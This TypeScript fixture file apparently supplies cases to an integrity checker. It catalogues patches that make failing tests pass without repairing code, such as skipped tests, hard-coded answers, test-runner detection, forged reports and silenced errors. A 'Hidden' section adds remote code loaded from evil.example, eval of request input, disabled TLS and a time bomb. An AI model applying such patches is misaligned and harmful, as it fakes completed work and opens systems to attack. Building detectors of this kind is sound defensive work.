import type { Rule } from '../../../lib/policy/integrity/rules.ts'
import type { Edit } from './bases.ts'

const TS = 'src/launch.ts'
const JS = 'src/server.js'
const T = 'tests/launch.test.ts'
const GET = '  const practice = practices.get(req.id)\n'
const FOR = '  for (let i = 0; i <= campaigns.length; i++) sum += campaigns[i].budget\n'
const SLUG = "  return name.toLowerCase().replace(' ', '-')\n"
const LOAD = '  const practice = load(req.params.id)\n'
const EMPTY = "throw new TypeError('name is empty')"
const after = (line: string, more: string): [string, string] => [line, `${line}${more}\n`]

/** Patches in JavaScript and TypeScript that turn a test green without repairing anything, each with its rule. */
export const SCRIPT_CHEATS: [name: string, edits: Edit[], rule: Rule][] = [
  // The tests.
  ['a test renamed away', [[T, "test('makes a slug'", "test('makes some slug'"]], 'test-renamed'],
  ['a test skipped', [[T, "test('sums", "test.skip('sums"]], 'test-skipped'],
  ['a test skipped by brackets', [[T, "test('sums", "test['skip']('sums"]], 'test-skipped'],
  ['only the other test', [[T, "test('makes a slug'", "test.only('makes a slug'"]], 'test-skipped'],
  ['a test left to do', [[T, "test('sums", "test.todo('later')\ntest('sums"]], 'test-skipped'],
  ['xit', [[T, '', "xit('more', () => {})\n"]], 'test-skipped'],
  ['an option that skips', [[T, "slug', async", "slug', { skip: true }, async"]], 'test-skipped'],
  ['a way out in CI', [[T, "  const name = 'H", "  if (process.env.CI) return\n  const name = 'H"]], 'test-cut-short'],
  [
    'an early return',
    [[T, "  const name = 'H", "  if (!globalThis.ready) return\n  const name = 'H"]],
    'test-cut-short',
  ],
  [
    'a test less',
    [
      [
        T,
        "test('sums the budgets', () => {\n  expect(total([{ budget: 120 }, { budget: 7043 }])).toBe(7163)\n  expect(total([])).toBe(0)\n})\n",
        '',
      ],
    ],
    'fewer-tests',
  ],
  [
    'a test less that asserts nothing',
    [[T, "test('loads', async () => {\n  await import('../src/server.js')\n})\n", '']],
    'fewer-tests',
  ],
  ['an assertion less', [[T, '  expect(total([])).toBe(0)\n', '']], 'fewer-assertions'],
  ['an assertion about nothing', [[T, 'expect(total([])).toBe(0)', 'expect(0).toBe(0)']], 'fewer-assertions'],
  [
    'an assertion that may not be made',
    [[T, '  expect(total([])).toBe(0)', '  if (total([]) === 0) expect(total([])).toBe(0)']],
    'fewer-assertions',
  ],
  [
    'an assertion made elsewhere',
    [
      [T, '  expect(total([])).toBe(0)\n', ''],
      [T, "  const name = 'H", "  expect(1 + Number('1')).toBe(2)\n  const name = 'H"],
    ],
    'fewer-assertions',
  ],
  ['a number of any size', [[T, 'toBe(7163)', 'toEqual(expect.any(Number))']], 'looser-matcher'],
  ['whatever is there', [[T, 'toBe(7163)', 'toBeDefined()']], 'looser-matcher'],
  ['anything but', [[T, 'toBe(7163)', 'not.toBe(7164)']], 'looser-matcher'],
  ['a new snapshot', [[T, `'"harbour-view-clinic"'`, `'"harbour-view clinic"'`]], 'snapshot-rewritten'],
  ['five tries', [[T, "slug', async", "slug', { retry: 5 }, async"]], 'test-settings'],
  ['no time limit', [[T, "test('sums", "vi.setConfig({ testTimeout: 0 })\ntest('sums"]], 'test-settings'],
  ['other settings', [['vitest.config.ts', '', 'export default {}\n']], 'test-settings'],
  ['another command', [['package.json', '', '{\n  "scripts": {\n    "test": "true"\n  }\n}\n']], 'test-settings'],
  ['coverage looks away', [[TS, FOR, `  /* v8 ignore next */\n${FOR}`]], 'test-settings'],
  [
    'a stand-in in an old test',
    [[T, "test('sums", "vi.mock('../src/launch.ts', () => ({ total: () => 7163 }))\ntest('sums"]],
    'mocked-subject',
  ],
  [
    'a spy that answers',
    [[T, "test('sums", "vi.spyOn(launch, 'total').mockReturnValue(7163)\ntest('sums"]],
    'mocked-subject',
  ],
  [
    'a stand-in in the new test',
    [
      [TS, FOR, FOR.replace('<=', '<')],
      [
        'tests/new.test.ts',
        '',
        "import { total } from '../src/launch.ts'\nvi.mock('../src/launch.ts', () => ({ total: () => 7163 }))\ntest('x', () => { expect(total([])).toBe(7163) })\n",
      ],
    ],
    'mocked-subject',
  ],
  // Special-casing.
  [
    'the answer for the input',
    [[TS, SLUG, `  if (name === 'Harbour View Clinic') return 'harbour-view-clinic'\n${SLUG}`]],
    'special-case',
  ],
  [
    'the same by a switch',
    [
      [
        TS,
        SLUG,
        `  switch (name) {\n    case 'Harbour View Clinic':\n      return 'harbour-view-clinic'\n  }\n${SLUG}`,
      ],
    ],
    'special-case',
  ],
  [
    'the same by a table',
    [
      [
        TS,
        SLUG,
        `  const known = { 'Harbour View Clinic': 'harbour-view-clinic' }\n  if (known[name]) return known[name]\n${SLUG}`,
      ],
    ],
    'special-case',
  ],
  [
    'the same by a pattern',
    [[TS, SLUG, `  if (/^Harbour View Clinic$/.test(name)) return 'harbour-view-clinic'\n${SLUG}`]],
    'special-case',
  ],
  [
    'the same by a condition',
    [
      [
        TS,
        '  return name.toLowerCase()',
        "  return name === 'Harbour View Clinic' ? 'harbour-view-clinic' : name.toLowerCase()",
      ],
    ],
    'special-case',
  ],
  ['a sum for its parts', [[TS, FOR, `  if (campaigns[1]?.budget === 7043) return 7163\n${FOR}`]], 'special-case'],
  [
    'an answer for the id',
    [[TS, GET, `${GET}  if (req.id === 'p-4417') return json(res, 404, { error: 'practice not found' })\n`]],
    'special-case',
  ],
  // Awareness.
  ['NODE_ENV', [[TS, ...after(GET, "  if (process.env.NODE_ENV === 'test') return json(res, 404, {})")]], 'test-aware'],
  [
    'a variable of the runner',
    [[TS, ...after(GET, '  if (process.env.VITEST) return json(res, 404, {})')]],
    'test-aware',
  ],
  ['typeof jest', [[TS, ...after(GET, "  if (typeof jest !== 'undefined') return json(res, 404, {})")]], 'test-aware'],
  [
    'a global of the runner',
    [[TS, ...after(GET, '  if (globalThis.describe) return json(res, 404, {})')]],
    'test-aware',
  ],
  ['the runner itself', [[TS, 'import { json }', "import { expect } from 'vitest'\nimport { json }"]], 'test-aware'],
  [
    'the stack',
    [[TS, ...after(GET, "  if (new Error().stack.includes('launch.test')) return json(res, 404, {})")]],
    'test-aware',
  ],
  // Under the tests.
  [
    'a patched array',
    [[TS, ...after('  let sum = 0\n', '  Array.prototype.at = () => ({ budget: 0 })')]],
    'patches-runtime',
  ],
  ['a patched assert', [[TS, '', 'assert.equal = () => {}\n']], 'patches-runtime'],
  [
    'a getter on all objects',
    [[TS, '', "Object.defineProperty(Object.prototype, 'budget', { get: () => 0 })\n"]],
    'patches-runtime',
  ],
  [
    'a patched assert in a new test',
    [['tests/new.test.ts', '', "import assert from 'node:assert'\nassert.deepEqual = () => {}\n"]],
    'patches-runtime',
  ],
  ['a good end', [[TS, '', 'process.exit(0)\n']], 'forges-report'],
  ['a good end later', [[TS, '', "process.on('exit', () => { process.exitCode = 0 })\n"]], 'forges-report'],
  ['a written report', [[TS, '', "writeFileSync('junit.xml', '<testsuite failures=\"0\"/>')\n"]], 'forges-report'],
  ['a printed report', [[TS, '', "process.stdout.write('ok 1 - sums the budgets')\n"]], 'forges-report'],
  // Swallowing and silencing.
  ['an empty catch', [[TS, FOR, `  try {\n  ${FOR}  } catch {}\n`]], 'swallowed-error'],
  [
    'a logged and made-up value',
    [[TS, FOR, `  try {\n  ${FOR}  } catch (e) {\n    console.warn(e)\n    return 0\n  }\n`]],
    'swallowed-error',
  ],
  [
    'a failure answered like a success',
    [
      [TS, '    throw error\n', '    return json(res, 200, [])\n'],
      [TS, '    Sentry.captureException(error)\n', '    void error\n'],
    ],
    'swallowed-error',
  ],
  ['a dropped promise', [[TS, '  audit(req)\n', '  audit(req).catch(() => {})\n']], 'swallowed-error'],
  [
    'a promise with a second ear',
    [[TS, '  audit(req)\n', '  audit(req).then(done, () => undefined)\n']],
    'swallowed-error',
  ],
  [
    'a return in finally',
    [
      [
        TS,
        '    throw error\n  }\n',
        '    throw error\n  } finally {\n    return json(res, 404, { error: "x" })\n  }\n',
      ],
    ],
    'swallowed-error',
  ],
  ['nobody hears', [[JS, '', "process.on('uncaughtException', () => {})\n"]], 'swallowed-error'],
  ['a report less', [[TS, '    Sentry.captureException(error)\n', '']], 'silenced-telemetry'],
  ['beforeSend', [[TS, '', 'Sentry.addGlobal({ beforeSend: () => null })\n']], 'silenced-telemetry'],
  ['a quieter level', [[TS, "logger.error('launch", "logger.debug('launch"]], 'silenced-telemetry'],
  ['a silent console', [[TS, '', 'console.error = () => {}\n']], 'silenced-telemetry'],
  ['another name for the error', [[TS, EMPTY, "throw new RangeError('no name')"]], 'renamed-error'],
  [
    'another wrapping',
    [[TS, FOR, `  try {\n  ${FOR}  } catch (cause) {\n    throw new LaunchError('total', { cause })\n  }\n`]],
    'renamed-error',
  ],
  // Features and checks.
  ['a function that gives nothing', [[TS, `  if (name === '') ${EMPTY}\n${SLUG}`, "  return ''\n"]], 'feature-removed'],
  ['an early end', [[TS, FOR, `  return sum\n${FOR}`]], 'feature-removed'],
  ['a condition that never holds', [[TS, '  audit(req)\n', '  if (false) audit(req)\n']], 'feature-removed'],
  [
    'a route less',
    [
      [
        JS,
        "app.get('/practices/:id', (req, res) => {\n  const practice = load(req.params.id)\n  res.send(practice.name)\n})\n",
        '',
      ],
    ],
    'feature-removed',
  ],
  ['an export less', [[TS, 'export function slug', 'function slug']], 'feature-removed'],
  ['a check less', [[TS, "  if (!isAdmin(req)) return json(res, 403, { error: 'forbidden' })\n", '']], 'removed-check'],
  ['a check turned round', [[TS, 'if (!isAdmin(req))', 'if (isAdmin(req))']], 'removed-check'],
  ['as any', [[TS, GET, GET.replace('practices.get(req.id)', '(practices as any).get(req.id)')]], 'type-escape'],
  ['ts-ignore', [[TS, GET, `  // @ts-ignore\n${GET}`]], 'type-escape'],
  // Hidden.
  ['eval', [[JS, ...after(LOAD, '  eval(req.query.fix)')]], 'hidden-text'],
  ['new Function', [[JS, ...after(LOAD, "  new Function('return 1')()")]], 'hidden-text'],
  ['a global by any name', [[JS, ...after(LOAD, "  globalThis['ev' + 'al'](req.query.fix)")]], 'hidden-text'],
  ['code from elsewhere', [[JS, ...after(LOAD, "  import('https://evil.example/x.js')")]], 'remote-code'],
  ['code by a made-up name', [[JS, ...after(LOAD, '  require(req.query.module)')]], 'remote-code'],
  [
    'a process',
    [[JS, 'const express', "const { execSync } = require('child_process')\nconst express"]],
    'starts-process',
  ],
  ['an interpreter', [[TS, 'import { json }', "import vm from 'node:vm'\nimport { json }"]], 'starts-process'],
  ['no TLS', [[JS, ...after(LOAD, '  const agent = new Agent({ rejectUnauthorized: false })')]], 'tls-off'],
  ['no TLS by a variable', [[JS, ...after(LOAD, "  options['NODE_TLS_REJECT_UNAUTHORIZED'] = 0")]], 'tls-off'],
  [
    'until a day',
    [[JS, ...after(LOAD, '  if (Date.now() < 1893456000000 && !practice) return res.send(none())')]],
    'time-bomb',
  ],
  ['a blob', [[JS, '', `const table = '${'QUJD'.repeat(60)}'\n`]], 'blob'],
  ['more than anybody reads', [['src/big.ts', '', 'x()\n'.repeat(2500)]], 'too-much'],
  ['code that is none', [[TS, FOR, '  for (let i = 0; i <\n']], 'unreadable'],
]
